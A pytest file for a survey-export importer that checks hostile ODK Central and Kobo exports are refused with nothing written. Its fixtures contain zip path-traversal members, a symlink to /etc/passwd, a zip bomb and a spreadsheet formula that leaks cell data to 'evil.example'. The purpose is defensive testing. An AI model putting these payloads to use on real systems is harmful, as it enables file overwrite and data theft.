"""Hostile or wrong exports are refused with a message that says what and where, and nothing is
written: not one assessment, answer, file or record, even for the submissions before the bad
part (the whole export is read through before anything is written)."""

from __future__ import annotations

import json
import os
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from tests.submissions.builders import (
    FORMS,
    central_headings,
    central_zip,
    kobo_attachments,
    kobo_xlsx,
    submission,
)
from tests.submissions.conftest import NOTHING, written

from selfassess.core.assessment.service import AssessmentService
from selfassess.core.errors import InvalidInput, UserError
from selfassess.core.forms.loader import load_form
from selfassess.core.forms.model import Form
from selfassess.core.store.store import Store
from selfassess.core.submissions.importing import import_submissions


def refusal(service: AssessmentService, form: Form, *files: Path) -> str:
    """The refusal's message, once it is shown that nothing was written."""
    with pytest.raises(UserError) as refused:
        import_submissions(service, form, list(files))
    assert written(service) == NOTHING
    return str(refused.value)


def spoiled(path: Path, form: Form, member: str, body: bytes = b"x") -> Path:
    """A genuine Central export of two submissions, with one more member."""
    submissions = [submission(form, 0), submission(form, 1)]
    return central_zip(path, form, submissions, extra_members={member: body})


@pytest.mark.parametrize(
    "member",
    ["media/../../evil.jpg", "/etc/cron.d/evil", "media\\..\\evil.jpg", "C:/evil.jpg"],
)
def test_a_member_whose_path_escapes_is_refused(
    service: AssessmentService, form: Form, tmp_path: Path, member: str
) -> None:
    message = refusal(service, form, spoiled(tmp_path / "e.zip", form, member))
    assert "points outside the archive; refused" in message


def test_a_link_is_refused(service: AssessmentService, form: Form, tmp_path: Path) -> None:
    export = spoiled(tmp_path / "e.zip", form, "media/x.jpg")
    with zipfile.ZipFile(export, "a") as archive:
        link = zipfile.ZipInfo("media/passwd.jpg")
        link.external_attr = (0o120777 << 16) | 0
        archive.writestr(link, "/etc/passwd")
    assert "is a link; refused" in refusal(service, form, export)


def test_a_photo_larger_than_the_evidence_limit_is_refused(
    service: AssessmentService, form: Form, tmp_path: Path, isolated_home: Path
) -> None:
    (isolated_home / "settings.json").write_text(json.dumps({"evidence_limit_mb": 1}))
    with Store.open(isolated_home) as store:
        limited = AssessmentService(store)
        export = spoiled(tmp_path / "e.zip", form, "media/huge.jpg", b"\xff" * (2 * 1024 * 1024))
        message = refusal(limited, form, export)
    assert "member 'media/huge.jpg' is 2.0 MB, above the limit of 1.0 MB; refused" in message


def test_a_zip_bomb_is_refused(service: AssessmentService, form: Form, tmp_path: Path) -> None:
    export = spoiled(tmp_path / "e.zip", form, "media/bomb.jpg", b"\0" * (20 * 1024 * 1024))
    assert "(a zip bomb?); refused" in refusal(service, form, export)


def test_a_member_twice_is_refused(service: AssessmentService, form: Form, tmp_path: Path) -> None:
    export = spoiled(tmp_path / "e.zip", form, "media/a.jpg")
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(export, "a") as archive:
        archive.writestr("media/a.jpg", b"another")
    assert "member media/a.jpg appears twice; refused" in refusal(service, form, export)


def test_a_file_that_is_not_a_zip_is_refused(
    service: AssessmentService, form: Form, tmp_path: Path
) -> None:
    fake = tmp_path / "export.zip"
    fake.write_bytes(b"SubmissionDate,KEY\n" * 100)
    assert "is not a zip file" in refusal(service, form, fake)


def test_a_formula_cell_refuses_the_workbook_naming_its_place(
    service: AssessmentService, form: Form, tmp_path: Path
) -> None:
    submissions = [submission(form, 0), submission(form, 1)]
    sheet = kobo_xlsx(tmp_path / "k.xlsx", form, submissions)
    workbook = load_workbook(sheet)
    worksheet = workbook.active
    assert worksheet is not None
    worksheet["F3"] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    workbook.save(sheet)
    photos = kobo_attachments(tmp_path / "a.zip", submissions)

    message = refusal(service, form, sheet, photos)

    assert f"{sheet}, row 3, column F: a formula" in message
    assert "is not an exported value; refused" in message


def test_a_column_of_another_form_is_named(
    service: AssessmentService, form: Form, tmp_path: Path
) -> None:
    headings = central_headings(form)
    headings[5] = "household-hh_size"
    export = central_zip(tmp_path / "e.zip", form, [submission(form, 0)], headings=headings)

    message = refusal(service, form, export)

    assert "the column 'household-hh_size' is not a question of self-assessment 2.0.0" in message
    assert "another form or version?" in message


def test_a_table_without_an_instance_id_is_refused(
    service: AssessmentService, form: Form, tmp_path: Path
) -> None:
    headings = ["gone" if h in ("meta-instanceID", "KEY") else h for h in central_headings(form)]
    headings = [h for h in headings if h != "gone"]
    export = central_zip(tmp_path / "e.zip", form, [], headings=headings)
    table = export.with_name("rows.csv")
    with zipfile.ZipFile(export) as archive:
        text = archive.read("self-assessment.csv").decode()
    table.write_text(text + ",".join(["x"] * len(headings)) + "\n", encoding="utf-8")

    message = refusal(service, form, table)

    assert "row 2: the submission has no instanceID" in message


def test_a_file_of_another_kind_is_refused(
    service: AssessmentService, form: Form, tmp_path: Path
) -> None:
    other = tmp_path / "export.json"
    other.write_text("{}")
    with pytest.raises(InvalidInput, match=r"an \.xlsx or a \.csv \(KoboToolbox\), not '\.json'"):
        import_submissions(service, form, [other])


def test_a_photo_in_the_folder_of_another_submission_is_not_attached(
    service: AssessmentService, form: Form, tmp_path: Path
) -> None:
    first, second = submission(form, 0), submission(form, 1)
    borrowed = next(iter(first.photos))
    evidence = next(q for q, v in second.values.items() if v in second.photos)
    second.values[evidence] = borrowed  # names the first supplier's photo
    sheet = kobo_xlsx(tmp_path / "k.xlsx", form, [first, second])
    photos = kobo_attachments(tmp_path / "a.zip", [first, second])

    report = import_submissions(service, form, [sheet, photos])

    (problem,) = [p for p in report.problems if p.instance_id == second.instance_id]
    assert f"the file {borrowed} is in {photos} only in the folder of another submission" in str(
        problem
    )
    theirs = next(a for a in service.all() if a.profile.organisation.endswith("n°1"))
    assert borrowed not in {a.original_name for a in service.attachments(theirs.id)}
    mine = next(a for a in service.all() if a.profile.organisation.endswith("n°0"))
    assert borrowed in {a.original_name for a in service.attachments(mine.id)}


def test_one_instance_id_given_to_two_different_submissions_is_refused(
    service: AssessmentService, form: Form, tmp_path: Path
) -> None:
    first, second = submission(form, 0, photos=False), submission(form, 1, photos=False)
    second.instance_id = first.instance_id  # two suppliers' answers, one instanceID
    export = central_zip(tmp_path / "e.zip", form, [first, second])

    message = refusal(service, form, export)

    assert (
        f"self-assessment.csv, row 3: the instanceID {first.instance_id} is also that of row 2"
        in (message)
    )
    assert "an export holds each submission once; nothing was imported" in message


def test_a_submission_given_twice_alike_is_imported_once(
    service: AssessmentService, form: Form, tmp_path: Path
) -> None:
    once = submission(form, 0, photos=False)
    export = central_zip(tmp_path / "e.zip", form, [once, once])

    report = import_submissions(service, form, [export])

    assert len(service.all()) == 1
    assert report.total == 2


def test_a_row_of_countless_empty_cells_is_refused_before_it_is_split(
    service: AssessmentService, form: Form, tmp_path: Path
) -> None:
    export = central_zip(tmp_path / "e.zip", form, [submission(form, 0, photos=False)])
    with zipfile.ZipFile(export) as archive:
        table = archive.read("self-assessment.csv").decode()
    sheet = tmp_path / "rows.csv"
    sheet.write_text(table + "," * 300_000 + "\n", encoding="utf-8")

    message = refusal(service, form, sheet)

    assert f"{sheet}, row 3: more cells than headings; refused" in message


def test_a_heading_row_of_countless_columns_is_refused(
    service: AssessmentService, form: Form, tmp_path: Path
) -> None:
    sheet = tmp_path / "wide.csv"
    sheet.write_text("KEY" + ",x" * 300_000 + "\n", encoding="utf-8")

    message = refusal(service, form, sheet)

    assert "has more than 5000 columns: an export of a questionnaire has fewer; refused" in message


def test_a_table_larger_than_a_table_may_be_is_refused_unread(
    service: AssessmentService, form: Form, tmp_path: Path
) -> None:
    sheet = tmp_path / "huge.csv"
    sheet.write_text("KEY,profile_organisation\n", encoding="utf-8")
    os.truncate(sheet, 300 * 1024 * 1024)  # sparse: no disk used

    message = refusal(service, form, sheet)

    assert f"{sheet} is 300.0 MB, more than a table of submissions may be (256.0 MB)" in message


def test_the_central_export_of_another_form_of_this_computer_is_refused(
    service: AssessmentService, form: Form, tmp_path: Path
) -> None:
    # every question of the quick scan is also one of the self-assessment's
    quick_scan = load_form(FORMS / "quick-scan.yaml").form
    assert quick_scan is not None
    export = central_zip(tmp_path / "qs.zip", quick_scan, [submission(quick_scan, 0)])

    message = refusal(service, form, export)

    assert f"{export} is the export of the form quick-scan (its table is quick-scan.csv)" in message
    assert "import it with --form quick-scan; nothing was imported" in message


def test_a_member_twice_deep_in_kobos_folders_is_named_whole(
    service: AssessmentService, form: Form, tmp_path: Path
) -> None:
    first = submission(form, 0)
    sheet = kobo_xlsx(tmp_path / "k.xlsx", form, [first])
    photos = kobo_attachments(tmp_path / "a.zip", [first])
    member = zipfile.ZipFile(photos).namelist()[0]
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(photos, "a") as archive:
        archive.writestr(member, b"another")

    message = refusal(service, form, sheet, photos)

    assert f"member {member} appears twice; refused" in message
